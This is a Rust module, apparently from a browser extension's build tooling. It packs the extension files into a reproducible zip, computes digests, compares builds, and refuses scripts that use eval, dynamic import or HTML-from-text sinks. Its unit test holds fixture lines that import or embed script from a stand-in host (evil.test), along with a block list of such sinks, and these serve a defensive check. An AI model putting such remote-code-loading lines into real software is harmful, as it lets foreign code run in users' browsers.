//! The files of an extension in memory: written, packed, compared. Order and times never vary.

use std::{
    collections::BTreeMap,
    fs,
    io::{Cursor, Write},
    path::Path,
};

use anyhow::{Context, bail};
use sha2::{Digest, Sha256};
use walkdir::WalkDir;
use zip::{CompressionMethod, ZipWriter, write::SimpleFileOptions};

use crate::shell::program;

/// What no script of the package holds: ways to run text, or what comes from elsewhere.
const SCRIPTS: &[&str] = &[
    "eval(",
    "new Function",
    "import(",
    "importScripts",
    "document.write",
];

/// What no script of our own holds beside: markup made of text.
const OWN_SCRIPTS: &[&str] = &["innerHTML", "outerHTML", "insertAdjacentHTML"];

/// What a page's one script element begins with.
const OWN_SHELLS: [&str; 2] = [
    r#" type="module" src="panel.js""#,
    r#" type="module" src="rehearsal.js""#,
];

/// Path in the package (with `/`) to bytes.
#[derive(Default)]
pub(crate) struct Package(BTreeMap<String, Vec<u8>>);

impl Package {
    /// Adds every file below `folder`, by its path from there.
    pub(crate) fn add_folder(&mut self, folder: &Path) -> anyhow::Result<()> {
        for entry in WalkDir::new(folder).sort_by_file_name() {
            let entry = entry?;
            if entry.file_type().is_file() {
                let path = entry.path().strip_prefix(folder)?;
                let path = path.to_str().context("a file's name is no Unicode")?;
                self.add(&path.replace('\\', "/"), fs::read(entry.path())?);
            }
        }
        Ok(())
    }

    /// Adds or replaces one file.
    pub(crate) fn add(&mut self, path: &str, bytes: Vec<u8>) {
        self.0.insert(path.to_owned(), bytes);
    }

    /// Takes one file out.
    pub(crate) fn take(&mut self, path: &str) -> Option<Vec<u8>> {
        self.0.remove(path)
    }

    /// Takes out what was built in and need not be there as a file.
    pub(crate) fn remove_matching(&mut self, is_out: impl Fn(&str) -> bool) {
        self.0.retain(|path, _| !is_out(path));
    }

    /// Makes `folder` hold exactly these files. Files that are the same already stay untouched.
    pub(crate) fn write_to(&self, folder: &Path) -> anyhow::Result<()> {
        fs::create_dir_all(folder)?;
        for entry in WalkDir::new(folder) {
            let entry = entry?;
            let path = entry
                .path()
                .strip_prefix(folder)?
                .to_string_lossy()
                .replace('\\', "/");
            if entry.file_type().is_file() && !self.0.contains_key(&path) {
                fs::remove_file(entry.path())?;
            }
        }
        self.write_into(folder, |_| true)
    }

    /// Writes those of the files that are wanted below `folder`, and leaves others as they are.
    pub(crate) fn write_into(
        &self,
        folder: &Path,
        is_wanted: impl Fn(&str) -> bool,
    ) -> anyhow::Result<()> {
        for (path, bytes) in self.0.iter().filter(|(path, _)| is_wanted(path)) {
            let file = folder.join(path);
            if fs::read(&file).is_ok_and(|old| old == *bytes) {
                continue;
            }
            if let Some(parent) = file.parent() {
                fs::create_dir_all(parent)?;
            }
            fs::write(&file, bytes)?;
        }
        Ok(())
    }

    /// The zip: sorted, of one fixed time, without owner or mode.
    pub(crate) fn zip(&self) -> anyhow::Result<Vec<u8>> {
        let options = SimpleFileOptions::default()
            .compression_method(CompressionMethod::Deflated)
            .last_modified_time(zip::DateTime::default())
            .unix_permissions(0o644);
        let mut zip = ZipWriter::new(Cursor::new(Vec::new()));
        for (path, bytes) in &self.0 {
            zip.start_file(path.as_str(), options)?;
            zip.write_all(bytes)?;
        }
        Ok(zip.finish()?.into_inner())
    }

    /// The bytes of all files whose path begins with one of `paths`, in their order.
    pub(crate) fn concatenated(&self, paths: &[&str]) -> Vec<u8> {
        let is_one = |path: &str| paths.iter().any(|start| path.starts_with(start));
        let files = self.0.iter().filter(|(path, _)| is_one(path));
        files.flat_map(|(_, bytes)| bytes).copied().collect()
    }

    /// How many bytes all files have.
    pub(crate) fn bytes(&self) -> usize {
        self.0.values().map(Vec::len).sum()
    }

    /// SHA-256 of the zip.
    pub(crate) fn digest(&self) -> anyhow::Result<String> {
        Ok(hex(&self.zip()?))
    }

    /// Fails where any file but `except` holds `word`.
    pub(crate) fn refuse_word(&self, word: &str, except: &str) -> anyhow::Result<()> {
        let holds = |bytes: &[u8]| {
            bytes
                .windows(word.len())
                .any(|part| part == word.as_bytes())
        };
        let mut files = self.0.iter().filter(|(path, _)| *path != except);
        match files.find(|(_, bytes)| holds(bytes)) {
            Some((path, _)) => bail!("the shipped build must not hold {word:?}, but {path} does"),
            None => Ok(()),
        }
    }

    /// Fails where a script could run what is not in the package.
    pub(crate) fn refuse_foreign_code(&self) -> anyhow::Result<()> {
        let scripts = self.0.iter().filter(|(path, _)| path.ends_with(".js"));
        for (path, bytes) in scripts {
            let text = String::from_utf8_lossy(bytes);
            // Yew has a function for markup as it is; a test of the panel's source holds it unused.
            let is_own = !path.starts_with("wasm/");
            let own = if is_own { OWN_SCRIPTS } else { &[] };
            if let Some(word) = SCRIPTS.iter().chain(own).find(|word| text.contains(**word)) {
                bail!("{path} holds {word:?}: no code from elsewhere, and none from text");
            }
        }
        let pages = self.0.iter().filter(|(path, _)| path.ends_with(".html"));
        for (path, bytes) in pages {
            let text = String::from_utf8_lossy(bytes);
            let is_foreign = |part: &str| !OWN_SHELLS.iter().any(|own| part.starts_with(own));
            if text.contains("://") || text.split("<script").skip(1).any(is_foreign) {
                bail!("{path} holds a script or an address that is not ours");
            }
        }
        Ok(())
    }

    /// Fails where the two differ, and says in which files.
    pub(crate) fn must_equal(&self, other: &Self) -> anyhow::Result<()> {
        let paths = self.0.keys().chain(other.0.keys());
        let mut differing: Vec<&String> = paths
            .filter(|path| self.0.get(*path) != other.0.get(*path))
            .collect();
        differing.dedup();
        if differing.is_empty() && self.zip()? == other.zip()? {
            return Ok(());
        }
        bail!("two builds of the same source differ in {differing:?}")
    }

    /// A line per file: bytes and digest.
    pub(crate) fn print(&self) {
        for (path, bytes) in &self.0 {
            eprintln!(
                "{:>9}  {}  {path}",
                bytes.len(),
                hex(bytes).chars().take(16).collect::<String>()
            );
        }
        eprintln!("{:>9}  in all", self.bytes());
    }
}

fn hex(bytes: &[u8]) -> String {
    Sha256::digest(bytes)
        .iter()
        .map(|byte| format!("{byte:02x}"))
        .collect()
}

/// Copies the files that git knows, as they are now, to `to`.
pub(crate) fn copy_tracked(from: &Path, to: &Path) -> anyhow::Result<()> {
    if to.exists() {
        fs::remove_dir_all(to)?;
    }
    let listed = program("git")
        .within(from)
        .args(["ls-files", "--cached", "--others", "--exclude-standard"])
        .read()?;
    for path in listed.lines().filter(|path| from.join(path).is_file()) {
        let target = to.join(path);
        if let Some(parent) = target.parent() {
            fs::create_dir_all(parent)?;
        }
        fs::copy(from.join(path), target)?;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn code_from_elsewhere_is_refused() {
        let refused = |path: &str, text: &str| {
            let mut package = Package::default();
            package.add(path, text.as_bytes().to_vec());
            package.refuse_foreign_code().is_err()
        };
        for (path, text) in [
            ("background.js", "eval('1')"),
            ("wasm/panel.js", "new Function('return 1')"),
            ("panel.js", "await import('https://evil.test/a.js')"),
            ("content.js", "host.innerHTML = text"),
            (
                "panel.html",
                r#"<script src="https://evil.test/a.js"></script>"#,
            ),
            ("panel.html", "<script>alert(1)</script>"),
        ] {
            assert!(refused(path, text), "{path}: {text}");
        }
        assert!(!refused("wasm/panel.js", "arg0.innerHTML = text"));
        assert!(!refused(
            "tab.html",
            r#"<script type="module" src="panel.js"></script>"#
        ));
    }
}
